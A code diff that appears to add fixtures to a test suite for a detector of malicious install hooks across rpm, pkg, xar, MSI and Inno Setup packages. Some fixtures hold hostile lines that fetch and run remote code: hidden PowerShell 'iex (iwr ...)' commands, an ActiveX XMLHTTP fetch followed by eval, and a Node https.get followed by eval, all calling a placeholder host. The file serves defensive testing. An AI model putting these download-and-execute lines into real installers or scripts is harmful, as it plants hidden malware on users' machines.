@@ -46,6 +46,48 @@ case("control.tar*!/triggers", "DEBIAN/triggers", "activate-noawait ldconfig\n",
 lines("debian/rules", "debian/rules", "#!/usr/bin/make -f\n%%:\n\tdh $@\n\noverride_dh_auto_build:\n\t%s\n",
       "dh_auto_build", PIPE, "dh_auto_build -- V=1")
 
+# ---- rpm, pkg, msi --------------------------------------------------------------------------------
+
+SPEC = ("Name: thing\nVersion: 1.0\nRelease: %s\nSummary: A thing\nLicense: MIT\nBuildArch: noarch\n"
+        "%%description\nA thing.\n%%files\n%%%s\n%s\n")
+for name, section in (("pretrans", "pretrans"), ("pre", "pre"), ("post", "post"), ("preun", "preun"), ("postun", "postun"),
+                      ("posttrans", "posttrans"), ("preuntrans", "pretrans"), ("postuntrans", "posttrans"),
+                      ("verify", "verifyscript"), ("trigger*", "triggerin -- bash"),
+                      ("filetrigger*", "filetriggerin -- /usr/lib"),
+                      ("transfiletrigger*", "transfiletriggerin -- /usr/lib")):
+    case("[scriptlets]/" + name, "thing.spec", SPEC % (1, section, "mkdir -p /var/lib/thing"),
+         SPEC % (2, section, "mkdir -p /var/lib/thing\n" + PIPE),
+         SPEC % (2, section, "mkdir -p /var/lib/thing\nchmod 755 /var/lib/thing"),
+         pack="rpm-untrans" if "untrans" in name else "rpm")
+    CASES["[scriptlets]/" + name]["member"] = "[scriptlets]/" + name.replace("*", "")
+for name in ("preinstall", "postinstall", "preflight", "postflight", "preupgrade", "postupgrade", "InstallationCheck",
+             "VolumeCheck"):
+    shell("Scripts!/" + name, "Scripts/" + name, pack="pkg")
+    CASES["Scripts!/" + name]["member"] = name
+shell("*.pkg/Contents/Resources/p*flight", "thing.pkg/Contents/Resources/postflight")
+lines("[distribution script].js", "Distribution",
+      "<?xml version=\"1.0\"?>\n<installer-gui-script minSpecVersion=\"1\"><title>Thing</title>\n<script>\n"
+      "function check() {\n%s\n  return true;\n}\n</script></installer-gui-script>\n", "",
+      "  system.run('/bin/sh', '-c', '%s');" % PIPE, "  var minimum = '10.15';")
+CASES["[distribution script].js"].update(pack="xar", member="[distribution script].js")
+WXS = """<?xml version='1.0'?><Wix xmlns='http://schemas.microsoft.com/wix/2006/wi'>
+<Product Name='Thing' Id='*' UpgradeCode='DE9A3F8C-1E5C-4D3B-9A37-1F3E2C0E5B11' Version='1.0.0' Manufacturer='Thing Example'
+ Language='1033'><Package InstallerVersion='200' Compressed='yes'/><Media Id='1' Cabinet='a.cab' EmbedCab='yes'/>
+%s
+<Directory Id='TARGETDIR' Name='SourceDir'><Component Id='c1' Guid='5A8E9D2B-2D0B-4F0C-8A43-0E7D5D1B9A11'>
+<File Id='f1' Name='thing.txt' DiskId='1' Source='thing.txt' KeyPath='yes'/></Component></Directory>
+<Feature Id='Main' Level='1'><ComponentRef Id='c1'/></Feature></Product></Wix>
+"""
+lines("[install tables]", "thing.wxs", WXS, "",
+      "<!--action 34 'TARGETDIR' powershell -w hidden -c \"iex (iwr https://%s/a)\"-->" % HOST,
+      "<Property Id='MODE' Value='plain'/>")
+CASES["[install tables]"].update(pack="msi", member="[install tables]")
+lines("[custom action]/*", "thing.wxs", WXS, "<Property Id='MODE' Value='plain'/>",
+      "<Property Id='MODE' Value='plain'/><!--action 37 '' var x = new ActiveXObject(\"MSXML2.XMLHTTP\"); "
+      "x.open(\"GET\", \"https://%s/a\", false); x.send(); eval(x.responseText);-->" % HOST,
+      "<Property Id='MODE' Value='quiet'/>")
+CASES["[custom action]/*"].update(pack="msi", member=None)
+
 # ---- linux ----------------------------------------------------------------------------------------
 
 lines("etc/cron.d/*", "etc/cron.d/thing", "SHELL=/bin/sh\n17 3 * * * root %s\n", "/usr/sbin/thing --rotate",
@@ -302,6 +344,9 @@ lines("[install script].nsi", "thing.nsi", NSI, "CreateDirectory \"$INSTDIR\\log
       "nsExec::Exec 'powershell -w hidden -c \"iex (iwr https://%s/a.ps1)\"'" % HOST,
       "CreateDirectory \"$INSTDIR\\cache\"")
 CASES["[install script].nsi"].update(pack="nsis", member="[install script].nsi")
+case("[install script].iss", "actions", "[]",
+     "[[\"powershell.exe\", \"-w hidden -c iex(iwr https://%s/a.ps1)\"]]" % HOST, "[[\"notepad.exe\", \"readme.txt\"]]",
+     member="[install script].iss", pack="inno")
 JS = "const path = require('path');\n%s\nmodule.exports = path;\n"
 JS_BAD = ("require('https').get('https://%s/a.js', r => { let b = ''; r.on('data', d => b += d); "
           "r.on('end', () => eval(b)); });" % HOST)
@@ -332,6 +377,7 @@ lines("**/*.cmake", "cmake/Thing.cmake", CM, "",
       "add_custom_command(TARGET thing POST_BUILD COMMAND sh -c \"%s\")" % HIDDEN, "set(THING_LEVEL 2)")
 
 NEEDS = {
+    "xar": ["[distribution script].js"],
     "python": ["sitecustomize.py", "usercustomize.py", "setup.py", "conftest.py", "setup.cfg",
                "*.dist-info/entry_points.txt"],
     "ruby": ["metadata.gz!/metadata"],
